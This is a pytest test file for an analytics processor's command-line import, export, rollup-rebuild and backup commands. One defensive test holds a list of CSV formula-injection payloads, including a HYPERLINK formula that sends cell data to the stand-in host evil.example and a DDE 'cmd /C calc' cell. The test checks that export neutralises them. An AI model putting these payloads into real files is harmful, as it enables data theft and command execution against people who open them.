"""Import and export from the command line."""
import bz2
import csv
import gzip
import io
import logging
import lzma
import os
import signal
import sqlite3
import subprocess
import sys
import tracemalloc
from datetime import date

import orjson
import psycopg
import pytest

import transfer
from postgres_store import PostgresStore
from processes import free_port, wait_for
from reports import Period
from store import MIGRATIONS, open_store

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def events_file(path, count, bad_every=0, site="imp"):
    with open(path, "wb") as file:      # an existing file is truncated in place, as the shell's > does
        for i in range(count):
            if bad_every and i % bad_every == 0:
                file.write(b'{"site_id": 5}\n')
            else:
                file.write(orjson.dumps({"site_id": site, "event_type": "page_view",
                                         "path": f"/p{i % 4}", "user_id": f"u{i}",
                                         "timestamp": f"2025-02-{1 + i % 28:02d}T12:00:00Z"}) + b"\n")


def run_processor(config, *args, **environment):
    """processor.py in config's DATA_DIR, with more environment variables if given."""
    return subprocess.run([sys.executable, "processor.py", *args], cwd=ROOT, capture_output=True,
                          text=True, timeout=60,
                          env={**os.environ, "DATA_DIR": config.data_dir, **environment})


def count_events(config):
    return sqlite3.connect(config.database_path).execute("SELECT count(*) FROM events").fetchone()[0]


def test_import_validates_like_the_api_and_reports_rejections(config, tmp_path):
    events_file(tmp_path / "in.jsonl", 100, bad_every=10)
    result = run_processor(config, "import", str(tmp_path / "in.jsonl"))
    assert result.returncode == 3, result.stderr
    assert "stored=90 rejected=10" in result.stderr
    assert "line 1 rejected: Invalid field type: site_id must be a string" in result.stderr
    assert count_events(config) == 90


def test_import_rejects_the_sites_not_in_sites_like_the_api(config, tmp_path):
    events_file(tmp_path / "in.jsonl", 20, site="imp")
    with open(tmp_path / "in.jsonl", "ab") as file:
        file.write(b'{"site_id": "junk", "event_type": "page_view"}\n')
    result = run_processor(config, "import", str(tmp_path / "in.jsonl"), SITES="other, imp")
    assert result.returncode == 3, result.stderr
    assert "line 21 rejected: Unknown site_id: junk" in result.stderr
    assert "stored=20 rejected=1" in result.stderr
    assert count_events(config) == 20


def test_an_import_file_that_starts_with_a_byte_order_mark_is_read_from_its_first_line(config, tmp_path):
    events_file(tmp_path / "in.jsonl", 5)
    path = tmp_path / "in.jsonl"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())      # as Windows Notepad saves UTF-8
    result = run_processor(config, "import", str(path))
    assert result.returncode == 0, result.stderr
    assert count_events(config) == 5


def test_import_without_sites_takes_every_site(config, tmp_path):
    events_file(tmp_path / "in.jsonl", 5, site="anything")
    assert run_processor(config, "import", str(tmp_path / "in.jsonl"), SITES="").returncode == 0
    assert count_events(config) == 5


def test_rerunning_an_import_never_counts_twice(config, tmp_path):
    events_file(tmp_path / "in.jsonl", 50)
    assert run_processor(config, "import", str(tmp_path / "in.jsonl")).returncode == 0
    assert run_processor(config, "import", str(tmp_path / "in.jsonl")).returncode == 0
    assert count_events(config) == 50


def test_a_second_import_of_a_file_being_imported_is_refused_and_nothing_counts_twice(config, tmp_path):
    path = tmp_path / "in.jsonl"
    events_file(path, 100_000)
    open_store(config).migrate()
    first = subprocess.Popen([sys.executable, "processor.py", "import", str(path)], cwd=ROOT,
                             env={**os.environ, "DATA_DIR": config.data_dir}, stderr=subprocess.PIPE, text=True)
    wait_for(lambda: count_events(config) > 0, 30, "the first import's first batch")
    second = run_processor(config, "import", str(tmp_path / ".." / tmp_path.name / "in.jsonl"))
    assert second.returncode == 2
    assert second.stderr.splitlines()[-1].endswith(
        f"import failed: another import of {path} is running; run this one again when it has finished")
    assert first.wait(timeout=60) == 0, first.stderr.read()
    assert count_events(config) == 100_000


@pytest.mark.parametrize("kind, module, decompress", [("gzip", gzip, "gunzip -k"), ("bzip2", bz2, "bunzip2 -k"),
                                                      ("xz", lzma, "unxz -k")])
def test_a_compressed_file_is_refused_in_one_line_that_says_how_to_decompress_it(
        config, tmp_path, kind, module, decompress):
    events_file(tmp_path / "in.jsonl", 5000)
    path = tmp_path / "in.jsonl.compressed"
    path.write_bytes(module.compress((tmp_path / "in.jsonl").read_bytes()))
    result = run_processor(config, "import", str(path))
    assert result.returncode == 2
    assert "rejected" not in result.stderr
    assert result.stderr.splitlines()[-1].endswith(
        f"import failed: {path} is {kind}-compressed, and import reads JSON lines as they are: "
        f"decompress it first ({decompress} {path})")


def test_a_pipe_given_to_import_is_refused_in_one_line(config, tmp_path):
    events_file(tmp_path / "in.jsonl", 5)
    result = subprocess.run(f"cat {tmp_path / 'in.jsonl'} | {sys.executable} processor.py import /dev/stdin",
                            shell=True, cwd=ROOT, capture_output=True, text=True, timeout=60,
                            env={**os.environ, "DATA_DIR": config.data_dir})
    assert result.returncode == 2
    assert result.stderr.splitlines()[-1].endswith(
        "import failed: /dev/stdin is a pipe, and import resumes where it stopped by reading its file "
        "again: save the stream to a file and import that")


def test_the_unfinished_last_line_of_a_file_still_being_written_is_left_for_the_next_run(config, tmp_path):
    path = tmp_path / "in.jsonl"
    events_file(path, 3)
    with open(path, "ab") as file:
        file.write(b'{"site_id": "imp", "event_type": "page_view", "path": "/la')
    result = run_processor(config, "import", str(path))
    assert result.returncode == 3, result.stderr
    assert "import line 4 left for the next run: it has no newline and is not JSON" in result.stderr
    assert "stored=3 rejected=1" in result.stderr
    with open(path, "ab") as file:
        file.write(b'st"}\n{"site_id": "imp", "event_type": "page_view", "path": "/after"}\n')
    result = run_processor(config, "import", str(path))
    assert result.returncode == 0, result.stderr
    assert "stored=2 rejected=0" in result.stderr
    paths = sqlite3.connect(config.database_path).execute("SELECT path FROM events ORDER BY id").fetchall()
    assert paths == [("/p0",), ("/p1",), ("/p2",), ("/last",), ("/after",)]


def a_json_array_file(path):
    """600,000 events as a JSON array on one line (35 MB), as other tools export, then two lines."""
    event = orjson.dumps({"site_id": "imp", "event_type": "page_view", "path": "/p"})
    path.write_bytes(b"[" + b",".join([event] * 600_000) + b"]\n" + event + b"\n{}\n")


def test_a_json_array_given_to_import_is_rejected_as_a_line_too_long(config, tmp_path):
    a_json_array_file(tmp_path / "events.json")
    result = run_processor(config, "import", str(tmp_path / "events.json"))
    assert result.returncode == 3, result.stderr
    assert f"import line 1 rejected: longer than {transfer.MAX_LINE_BYTES} bytes" in result.stderr
    assert "import line 3 rejected: Missing required field: site_id" in result.stderr
    assert "stored=1 rejected=2" in result.stderr
    result = run_processor(config, "import", str(tmp_path / "events.json"))
    assert (result.returncode, count_events(config)) == (0, 1), result.stderr


def test_a_line_too_long_is_never_read_into_memory(config, tmp_path):
    a_json_array_file(tmp_path / "events.json")
    store = open_store(config)
    store.migrate()
    tracemalloc.start()
    try:
        assert transfer.import_file(store, str(tmp_path / "events.json"), show_progress=False) == (1, 2)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * 1024 * 1024       # the file is 35 MB


def test_an_interrupted_import_resumes_where_it_stopped(config, tmp_path, monkeypatch):
    events_file(tmp_path / "in.jsonl", 95)
    monkeypatch.setattr(transfer, "IMPORT_BATCH", 10)
    store = open_store(config)
    store.migrate()
    real_write, writes = store.write, []

    def write_then_crash(rows, source, checkpoint):
        if len(writes) == 4:
            raise KeyboardInterrupt
        writes.append(len(rows))
        real_write(rows, source, checkpoint)
    store.write = write_then_crash
    with pytest.raises(KeyboardInterrupt):
        transfer.import_file(store, str(tmp_path / "in.jsonl"), show_progress=False)
    assert count_events(config) == 40
    store.write = real_write
    assert transfer.import_file(store, str(tmp_path / "in.jsonl"), show_progress=False) == (55, 0)
    users = sqlite3.connect(config.database_path).execute(
        "SELECT count(DISTINCT user_id), count(*) FROM events").fetchone()
    assert users == (95, 95)
    stats = store.reports(store.connection).stats("imp", Period())
    assert (stats["total_views"], stats["unique_users"]) == (95, 95)


def test_an_import_without_a_terminal_logs_its_progress(config, tmp_path, monkeypatch, caplog):
    events_file(tmp_path / "in.jsonl", 30)
    size = (tmp_path / "in.jsonl").stat().st_size
    monkeypatch.setattr(transfer, "IMPORT_BATCH", 10)
    monkeypatch.setattr(transfer, "PROGRESS_EVERY", 0)
    store = open_store(config)
    store.migrate()
    with caplog.at_level("INFO", logger="transfer"):
        assert transfer.import_file(store, str(tmp_path / "in.jsonl"), show_progress=False) == (30, 0)
    progress = [record.getMessage() for record in caplog.records if "progress" in record.getMessage()]
    assert [line.split(" of ")[1] for line in progress] == [
        f"{size} stored={stored} rejected=0" for stored in (10, 20, 30)]
    assert progress[-1] == f"import progress bytes={size} of {size} stored=30 rejected=0"


def as_a_terminal_shows(output):
    """The lines a terminal shows for output: a carriage return goes back to the line's start."""
    lines = []
    for line in output.split("\n"):
        shown = ""
        for part in line.split("\r"):
            shown = part + shown[len(part):]
        lines.append(shown.rstrip())
    return lines


def test_an_import_s_log_lines_print_above_its_progress_bar_not_on_it(config, tmp_path, monkeypatch):
    events_file(tmp_path / "in.jsonl", 30, bad_every=10)
    monkeypatch.setattr(transfer, "IMPORT_BATCH", 10)
    terminal = io.StringIO()
    monkeypatch.setattr(sys, "stderr", terminal)
    console = logging.StreamHandler()       # on the terminal, as the processor's is
    logging.root.addHandler(console)
    store = open_store(config)
    store.migrate()
    try:
        assert transfer.import_file(store, str(tmp_path / "in.jsonl"), show_progress=True) == (27, 3)
    finally:
        logging.root.removeHandler(console)
    shown = as_a_terminal_shows(terminal.getvalue())
    assert [line for line in shown if "rejected:" in line] == [
        f"import line {number} rejected: Invalid field type: site_id must be a string" for number in (1, 11, 21)]
    assert "100%" in shown[-2] and shown[-1] == ""      # the bar, finished, stays below them


@pytest.mark.parametrize("new_count", [20, 80], ids=["shorter", "longer"])
def test_a_file_rewritten_in_place_is_imported_from_its_beginning(config, tmp_path, new_count):
    path = tmp_path / "in.jsonl"
    events_file(path, 50)
    store = open_store(config)
    store.migrate()
    assert transfer.import_file(store, str(path), show_progress=False) == (50, 0)
    inode = path.stat().st_ino
    events_file(path, new_count, site="rewritten")
    assert path.stat().st_ino == inode
    assert transfer.import_file(store, str(path), show_progress=False) == (new_count, 0)
    assert transfer.import_file(store, str(path), show_progress=False) == (0, 0)
    sites = sqlite3.connect(config.database_path).execute(
        "SELECT site_id, count(*) FROM events GROUP BY 1 ORDER BY 1").fetchall()
    assert sites == [("imp", 50), ("rewritten", new_count)]


def test_an_import_position_saved_before_positions_had_a_crc_is_gone_on_from(config, tmp_path):
    path = tmp_path / "in.jsonl"
    events_file(path, 10)
    five_lines = sum(map(len, path.read_bytes().splitlines(keepends=True)[:5]))
    store = open_store(config)
    store.migrate()
    store.write([], transfer.import_source(str(path)), f"{five_lines}:5")     # offset:line, no CRC
    assert transfer.import_file(store, str(path), show_progress=False) == (5, 0)
    assert count_events(config) == 5


def test_export_is_in_time_order_and_holds_the_last_millisecond_of_its_last_day(config, tmp_path):
    with open(tmp_path / "in.jsonl", "wb") as file:       # in the order they came, not their time
        for path, moment in [("/next-day", "2025-02-03T00:00:00.000Z"), ("/last", "2025-02-02T23:59:59.999Z"),
                             ("/first", "2025-02-01T00:00:00.000Z"), ("/second", "2025-02-01T00:00:00.001Z")]:
            file.write(orjson.dumps({"site_id": "imp", "event_type": "page_view", "path": path,
                                     "timestamp": moment}) + b"\n")
    run_processor(config, "import", str(tmp_path / "in.jsonl"))
    for bounds, paths in [([], ["/first", "/second", "/last", "/next-day"]),
                          (["--from", "2025-02-01", "--to", "2025-02-02"], ["/first", "/second", "/last"])]:
        result = run_processor(config, "export", "--site", "imp", *bounds)
        assert result.returncode == 0, result.stderr
        assert [orjson.loads(line)["path"] for line in result.stdout.splitlines()] == paths


def test_export_streams_json_lines_for_a_range(config, tmp_path):
    events_file(tmp_path / "in.jsonl", 56)
    run_processor(config, "import", str(tmp_path / "in.jsonl"))
    result = run_processor(config, "export", "--site", "imp", "--from", "2025-02-01", "--to", "2025-02-02")
    assert result.returncode == 0, result.stderr
    lines = [orjson.loads(line) for line in result.stdout.splitlines()]
    assert len(lines) == 4
    assert {line["timestamp"][:10] for line in lines} == {"2025-02-01", "2025-02-02"}
    assert set(lines[0]) == {"site_id", "event_type", "path", "user_id", "timestamp"}


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_export_writes_utf_8_whatever_the_locale(config, tmp_path, fmt):
    event = {"site_id": "imp", "event_type": "page_view", "path": "/ü€😀,\"\n", "user_id": "ж",
             "timestamp": "2025-02-01T12:00:00.000Z"}
    (tmp_path / "in.jsonl").write_bytes(orjson.dumps(event) + b"\n")
    run_processor(config, "import", str(tmp_path / "in.jsonl"))
    result = run_processor(config, "export", "--site", "imp", "--format", fmt, PYTHONIOENCODING="latin-1")
    assert result.returncode == 0, result.stderr
    exported = ([orjson.loads(line) for line in result.stdout.splitlines()] if fmt == "jsonl"
                else list(csv.DictReader(io.StringIO(result.stdout, newline=""))))
    assert exported == [event]


def test_export_read_only_in_part_ends_quietly(config, tmp_path):
    events_file(tmp_path / "in.jsonl", 5000)        # more than a pipe holds
    run_processor(config, "import", str(tmp_path / "in.jsonl"))
    # as `export | head -1` does: the reader takes one line and goes away
    export = subprocess.Popen([sys.executable, "processor.py", "export", "--site", "imp"], cwd=ROOT,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, bufsize=0,
                              env={**os.environ, "DATA_DIR": config.data_dir})
    assert orjson.loads(export.stdout.readline())["site_id"] == "imp"
    export.stdout.close()
    _, errors = export.communicate(timeout=60)
    assert export.returncode == 128 + signal.SIGPIPE
    assert b"failed" not in errors and b"Traceback" not in errors, errors


@pytest.mark.parametrize("bounds, first_day, last_day", [
    (["--from", "2025-02-27"], "2025-02-27", "2025-02-28"),
    (["--to", "2025-02-02"], "2025-02-01", "2025-02-02"),
    (["--from", "2000-01-01", "--to", "2099-12-31"], "2025-02-01", "2025-02-28"),
], ids=["from alone: to the last day", "to alone: from the first day", "longer than any report"])
def test_export_takes_any_range_and_either_end_alone(config, tmp_path, bounds, first_day, last_day):
    events_file(tmp_path / "in.jsonl", 56)
    run_processor(config, "import", str(tmp_path / "in.jsonl"))
    result = run_processor(config, "export", "--site", "imp", *bounds)
    assert result.returncode == 0, result.stderr
    days = sorted(orjson.loads(line)["timestamp"][:10] for line in result.stdout.splitlines())
    assert (days[0], days[-1]) == (first_day, last_day) and len(days) == len(set(days)) * 2


@pytest.mark.parametrize("bounds, error", [
    (["--from", "2025-02-03", "--to", "2025-02-01"], "--to 2025-02-01 is before --from 2025-02-03"),
    (["--from", "2025-02-30"], "argument --from: expected a date as YYYY-MM-DD, got '2025-02-30'"),
])
def test_export_refuses_a_bad_range_in_the_words_of_its_options_before_it_opens_the_database(
        config, bounds, error):
    result = run_processor(config, "export", "--site", "imp", *bounds)
    assert result.returncode == 2
    assert result.stderr.startswith("usage: processor.py export ")     # the usage of the command
    assert result.stderr.splitlines()[-1] == f"processor.py export: error: {error}"
    assert not os.path.exists(config.database_path)


def test_export_of_the_last_day_there_is(config, tmp_path):
    events_file(tmp_path / "in.jsonl", 4)
    run_processor(config, "import", str(tmp_path / "in.jsonl"))
    result = run_processor(config, "export", "--site", "imp", "--from", "9999-12-31", "--to", "9999-12-31")
    assert (result.returncode, result.stdout) == (0, ""), result.stderr


def test_export_from_a_postgresql_store(tmp_path, postgres_database):
    events_file(tmp_path / "in.jsonl", 56)
    store = PostgresStore(postgres_database)
    store.migrate()
    transfer.import_file(store, str(tmp_path / "in.jsonl"), show_progress=False)
    out = io.StringIO()
    try:
        period = Period(date(2025, 2, 1), date(2025, 2, 2))
        assert transfer.export_events(store, out, "imp", period) == 4
    finally:
        store.close()
    assert {orjson.loads(line)["timestamp"][:10] for line in out.getvalue().splitlines()} == {
        "2025-02-01", "2025-02-02"}


# runs processor.py with its arguments, then writes its peak memory (kB) to stderr; the
# kernel's VmHWM starts afresh at exec, while wait4's ru_maxrss counts the test's own at the fork
PEAK_MEMORY = ("import atexit, runpy, sys; sys.argv[0] = 'processor.py'; atexit.register(lambda: print("
               "'peak', next(line for line in open('/proc/self/status') if line.startswith('VmHWM:')).split()[1],"
               " file=sys.stderr)); runpy.run_path('processor.py', run_name='__main__')")


def test_export_from_a_postgresql_store_never_holds_every_event_in_memory(tmp_path, postgres_database):
    store = PostgresStore(postgres_database)
    store.migrate()
    with store.atomic() as connection:
        connection.execute("INSERT INTO events (site_id, event_type, path, user_id, timestamp, event_id) "
                           "SELECT 'imp', 'page_view', '/some/page/' || g % 1000, 'user' || g, "
                           "'2025-02-01T12:00:00.000Z', 'id' || g FROM generate_series(1, 1000000) AS g")
    store.close()
    result = subprocess.run([sys.executable, "-c", PEAK_MEMORY, "export", "--site", "imp"], cwd=ROOT,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120,
                            env={**os.environ, "DATA_DIR": str(tmp_path), "DATABASE_URL": postgres_database})
    assert result.returncode == 0, result.stderr
    assert result.stdout.count(b"\n") == 1_000_000
    peak = int(result.stderr.split()[-1])
    assert peak < 150 * 1024, f"peak memory {peak} kB"        # the processor's budget


def test_export_as_csv_round_trips_every_event(config, tmp_path):
    events_file(tmp_path / "in.jsonl", 30)
    run_processor(config, "import", str(tmp_path / "in.jsonl"))
    out = io.StringIO()
    store = open_store(config)
    assert transfer.export_events(store, out, "imp", Period(), "csv") == 30
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == 30 and rows[0]["site_id"] == "imp"


HOSTILE_CELLS = ['=HYPERLINK("http://evil.example?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
                 "\t=1", "\r=1"]


def test_export_as_csv_keeps_a_spreadsheet_from_running_event_values_as_formulas(config, tmp_path):
    with open(tmp_path / "in.jsonl", "wb") as file:
        for i, value in enumerate(HOSTILE_CELLS):
            file.write(orjson.dumps({"site_id": "imp", "event_type": value, "path": value, "user_id": value,
                                     "timestamp": f"2025-02-01T12:00:0{i}Z"}) + b"\n")
    run_processor(config, "import", str(tmp_path / "in.jsonl"))
    store = open_store(config)
    out = io.StringIO()
    transfer.export_events(store, out, "imp", Period(), "csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [row["path"] for row in rows] == ["'" + value for value in HOSTILE_CELLS]
    assert [row["user_id"] for row in rows] == [row["event_type"] for row in rows]
    out = io.StringIO()
    transfer.export_events(store, out, "imp", Period())       # JSON lines: as stored
    assert [orjson.loads(line)["path"] for line in out.getvalue().splitlines()] == HOSTILE_CELLS


def test_rebuild_rollups_command(config, tmp_path):
    events_file(tmp_path / "in.jsonl", 20)
    run_processor(config, "import", str(tmp_path / "in.jsonl"))
    sqlite3.connect(config.database_path, isolation_level=None).execute("DELETE FROM site_totals")
    result = run_processor(config, "rebuild-rollups")
    assert result.returncode == 0, result.stderr
    assert "rebuild progress events=20 of 20" in result.stderr
    store = open_store(config)
    assert store.reports(store.connection).stats("imp", Period())["total_views"] == 20


@pytest.mark.parametrize("kind", ["sqlite", "postgresql"])
def test_rebuild_progress_counts_the_events_there_are_not_their_ids(config, tmp_path, kind, request):
    """Ids have gaps (events retention deleted, batches rolled back): 'events=N of M' says how
    many events there are, not how far the ids reach."""
    if kind == "postgresql":
        config = config.with_overrides(database_url=request.getfixturevalue("postgres_database"))
    events_file(tmp_path / "in.jsonl", 20)
    store = open_store(config)
    store.migrate()
    transfer.import_file(store, str(tmp_path / "in.jsonl"), show_progress=False)
    with store.atomic() as connection:
        connection.execute("DELETE FROM events WHERE id % 4 = 0")
    progress = []
    store.rebuild_rollups(lambda done, total: progress.append((done, total)))
    store.close()
    assert progress[-1] == (15, 15)


def test_two_rebuilds_of_a_postgresql_store_at_once_count_every_event_once(tmp_path, postgres_database):
    events_file(tmp_path / "in.jsonl", 200)
    store = PostgresStore(postgres_database)
    store.migrate()
    transfer.import_file(store, str(tmp_path / "in.jsonl"), show_progress=False)
    name = f"rebuild-{os.getpid()}"         # the rebuilds' application_name, to find them waiting
    environment = {**os.environ, "DATA_DIR": str(tmp_path), "DATABASE_URL": postgres_database, "PGAPPNAME": name}
    with psycopg.connect(postgres_database) as holder, psycopg.connect(postgres_database,
                                                                       autocommit=True) as watcher:
        holder.execute("LOCK TABLE site_totals IN ACCESS EXCLUSIVE MODE")   # both rebuilds wait on it
        rebuilds = [subprocess.Popen([sys.executable, "processor.py", "rebuild-rollups"], cwd=ROOT,
                                     env=environment, stderr=subprocess.PIPE, text=True) for _ in range(2)]
        wait_for(lambda: watcher.execute("SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock' "
                                        "AND application_name = %s", (name,)).fetchone()[0] == 2,
                 30, "both rebuilds to wait")
    assert [rebuild.wait(timeout=60) for rebuild in rebuilds] == [0, 0], [r.stderr.read() for r in rebuilds]
    connection = store.connect(readonly=True)
    try:
        rollup, raw = store.reports(connection), store.reports(connection, raw=True)
        assert rollup.stats("imp", Period()) == raw.stats("imp", Period())
        assert rollup.stats("imp", Period())["total_views"] == 200
    finally:
        connection.close()
        store.close()


def test_backup_is_a_consistent_copy_taken_while_the_processor_stores(config, tmp_path):
    from events import encode_event, validate_event
    from shared_queue import open_queue, parse_checkpoint
    queue = open_queue(config)
    open_store(config).migrate()
    environment = {**os.environ, "DATA_DIR": config.data_dir}
    processor = subprocess.Popen([sys.executable, "processor.py"], cwd=ROOT, env=environment,
                                 stderr=subprocess.DEVNULL)
    backups = [tmp_path / f"backup-{number}.db" for number in range(3)]
    try:
        for backup in backups:
            taking = subprocess.Popen([sys.executable, "processor.py", "backup", str(backup)], cwd=ROOT,
                                      env=environment, stderr=subprocess.PIPE, text=True)
            while taking.poll() is None:    # events arrive and are stored all the while
                queue.append([encode_event(validate_event({"site_id": "b", "event_type": "page_view",
                                                           "user_id": f"u{i}"})) for i in range(100)])
            assert taking.returncode == 0 and "backup finished" in taking.stderr.read()
    finally:
        processor.terminate()
        assert processor.wait(timeout=30) == 0
    for backup in backups:
        copy = sqlite3.connect(backup)
        assert copy.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        events = copy.execute("SELECT count(*) FROM events").fetchone()[0]
        (checkpoint,) = copy.execute("SELECT checkpoint FROM queue_checkpoints").fetchone() or (None,)
        # the events, the rollups and the queue position of one and the same moment
        assert parse_checkpoint(checkpoint)[2] == events
        assert copy.execute("SELECT coalesce(sum(views), 0) FROM site_totals").fetchone()[0] == events
    refused = run_processor(config, "backup", str(backups[0]))
    assert refused.returncode == 2 and "exists" in refused.stderr


def test_a_backup_copies_the_database_as_it_is_without_upgrading_it(config, tmp_path):
    """The backup taken before an upgrade, with the new version's command while the old version
    still runs: migrating the database would stop the old processor, and the copy would be no
    copy of the version to go back to."""
    events_file(tmp_path / "in.jsonl", 4)
    run_processor(config, "import", str(tmp_path / "in.jsonl"))
    previous = len(MIGRATIONS) - 1
    sqlite3.connect(config.database_path, isolation_level=None).execute(f"PRAGMA user_version = {previous}")
    result = run_processor(config, "backup", str(tmp_path / "before-upgrade.db"))
    assert result.returncode == 0, result.stderr
    for database in (config.database_path, tmp_path / "before-upgrade.db"):
        assert sqlite3.connect(database).execute("PRAGMA user_version").fetchone() == (previous,)


def test_backup_creates_the_directories_it_names(config, tmp_path):
    events_file(tmp_path / "in.jsonl", 4)
    run_processor(config, "import", str(tmp_path / "in.jsonl"))
    copy = tmp_path / "backups" / "2025" / "analytics-2025-03-01.db"
    result = run_processor(config, "backup", str(copy))
    assert result.returncode == 0, result.stderr
    assert sqlite3.connect(copy).execute("SELECT count(*) FROM events").fetchone() == (4,)


@pytest.mark.parametrize("stop, status", [(signal.SIGTERM, 143), (signal.SIGHUP, 129)],
                         ids=["SIGTERM", "SIGHUP, its terminal closed"])
def test_a_backup_stopped_by_a_signal_leaves_no_partial_copy_behind(config, tmp_path, stop, status):
    store = open_store(config)
    store.migrate()
    with store.atomic() as connection:      # enough pages that the copy takes a while
        connection.execute("CREATE TABLE filler (data BLOB)")
        connection.execute("INSERT INTO filler SELECT zeroblob(1024 * 1024) FROM "
                           "(WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 200) "
                           "SELECT i FROM n)")
    store.close()
    copy = tmp_path / "copy.db"
    taking = subprocess.Popen([sys.executable, "processor.py", "backup", str(copy)], cwd=ROOT,
                              env={**os.environ, "DATA_DIR": config.data_dir}, stderr=subprocess.PIPE, text=True)
    wait_for(lambda: os.path.exists(f"{copy}.partial") or taking.poll() is not None, 30, "the copy to start")
    taking.send_signal(stop)
    assert taking.wait(timeout=60) == status
    assert taking.stderr.read().splitlines()[-1].endswith("backup interrupted")
    # a copy of every user id and visitor salt, under a name no one looks for
    assert not os.path.exists(f"{copy}.partial")
    assert not copy.exists()


@pytest.mark.parametrize("obstacle", ["a file where its directory goes", "a directory where it is written"])
def test_a_backup_that_cannot_be_written_fails_in_one_line_naming_the_file(config, tmp_path, obstacle):
    copy = tmp_path / "backups" / "copy.db"
    open_store(config).migrate()
    if obstacle.startswith("a file"):
        (tmp_path / "backups").write_text("")
    else:
        (tmp_path / "backups" / "copy.db.partial").mkdir(parents=True)
    result = run_processor(config, "backup", str(copy))
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert f"backup failed: cannot write {copy}: " in result.stderr.splitlines()[-1]


@pytest.mark.parametrize("command", [["import", "in.jsonl"], ["export", "--site", "imp"], ["rebuild-rollups"],
                                     ["backup", "copy.db"]], ids=lambda command: command[0])
def test_a_command_whose_sqlite_store_cannot_be_opened_fails_in_one_line(config, tmp_path, command):
    events_file(tmp_path / "in.jsonl", 4)
    args = [str(tmp_path / arg) if arg.endswith(("jsonl", ".db")) else arg for arg in command]
    result = run_processor(config, *args, DATABASE_URL="/nonexistent/dir/a.db")
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert f"{command[0]} failed: SQLite /nonexistent/dir/a.db: " in result.stderr.splitlines()[-1]


def test_once_given_with_a_command_is_a_usage_error_instead_of_being_ignored(config):
    result = run_processor(config, "--once", "rebuild-rollups")
    assert result.returncode == 2
    assert result.stderr.splitlines()[-1].endswith(
        "error: --once drains the queue without a COMMAND; rebuild-rollups does not take it")
    assert not os.path.exists(config.database_path)


@pytest.mark.parametrize("command", [["export", "--site", "imp"], ["rebuild-rollups"], ["backup", "copy.db"]],
                         ids=lambda command: command[0])
def test_a_command_that_reads_the_database_refuses_one_that_is_not_there(config, tmp_path, command):
    args = [str(tmp_path / arg) if arg.endswith(".db") else arg for arg in command]
    result = run_processor(config, *args)     # run from the wrong directory, say
    assert result.returncode == 2
    assert result.stderr.splitlines()[-1].endswith(
        f"{command[0]} failed: SQLite {config.database_path}: no database there; set DATA_DIR (or "
        "DATABASE_URL) to where the processor keeps it")
    assert not os.path.exists(config.database_path)
    assert not (tmp_path / "copy.db").exists()


def test_a_command_whose_postgresql_server_does_not_answer_fails_in_one_line(config, tmp_path):
    events_file(tmp_path / "in.jsonl", 4)
    result = run_processor(config, "import", str(tmp_path / "in.jsonl"),
                           DATABASE_URL=f"postgresql://postgres@127.0.0.1:{free_port()}/test")
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert "import failed: PostgreSQL: " in result.stderr.splitlines()[-1]


def test_backup_of_a_postgresql_store_points_to_pg_dump(tmp_path, postgres_database):
    result = subprocess.run([sys.executable, "processor.py", "backup", str(tmp_path / "copy.db")], cwd=ROOT,
                            capture_output=True, text=True, timeout=60,
                            env={**os.environ, "DATA_DIR": str(tmp_path), "DATABASE_URL": postgres_database})
    assert result.returncode == 2
    assert "pg_dump" in result.stderr
    assert not (tmp_path / "copy.db").exists()


@pytest.mark.parametrize("stop, status", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_ctrl_c_or_sigterm_stops_an_import_in_one_line_and_running_it_again_resumes(
        config, tmp_path, stop, status):
    events_file(tmp_path / "in.jsonl", 100_000)
    store = open_store(config)
    store.migrate()
    importing = subprocess.Popen([sys.executable, "processor.py", "import", str(tmp_path / "in.jsonl")],
                                 cwd=ROOT, env={**os.environ, "DATA_DIR": config.data_dir},
                                 stderr=subprocess.PIPE, text=True)
    wait_for(lambda: count_events(config) > 0, 30, "the import's first batch")
    importing.send_signal(stop)
    assert importing.wait(timeout=30) == status
    stderr = importing.stderr.read()
    assert "Traceback" not in stderr
    assert stderr.splitlines()[-1].endswith("import interrupted; run it again to resume where it stopped")
    assert count_events(config) < 100_000
    assert run_processor(config, "import", str(tmp_path / "in.jsonl")).returncode == 0
    assert sqlite3.connect(config.database_path).execute(
        "SELECT count(DISTINCT user_id), count(*) FROM events").fetchone() == (100_000, 100_000)


@pytest.mark.parametrize("command, says", [
    ([], "without a COMMAND, until SIGTERM, SIGINT or SIGHUP"),
    (["import"], "run again, it goes on where it stopped; exit status 3 if lines were rejected"),
    (["export"], "Write a site's events to standard output, in time order"),
    (["rebuild-rollups"], "Recompute every rollup from the events table"),
    (["backup"], "(PostgreSQL: use pg_dump)"),
], ids=lambda value: value[0] if isinstance(value, list) and value else None)
def test_the_help_of_each_command_says_what_it_does(command, says):
    result = subprocess.run([sys.executable, "processor.py", *command, "--help"], cwd=ROOT,
                            capture_output=True, text=True, timeout=60, env={**os.environ, "COLUMNS": "300"})
    assert result.returncode == 0
    assert says in result.stdout
